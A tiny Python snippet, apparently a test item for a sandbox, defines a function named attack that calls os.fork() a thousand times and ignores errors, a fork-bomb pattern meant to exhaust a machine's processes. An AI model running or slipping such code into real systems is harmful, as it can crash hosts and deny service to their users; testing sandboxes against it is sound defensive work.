# Processes without end.
# holds: ok []
import os


def attack():
    made = []
    for _ in range(1000):
        try:
            made.append(os.fork())
        except OSError:
            pass
    return made
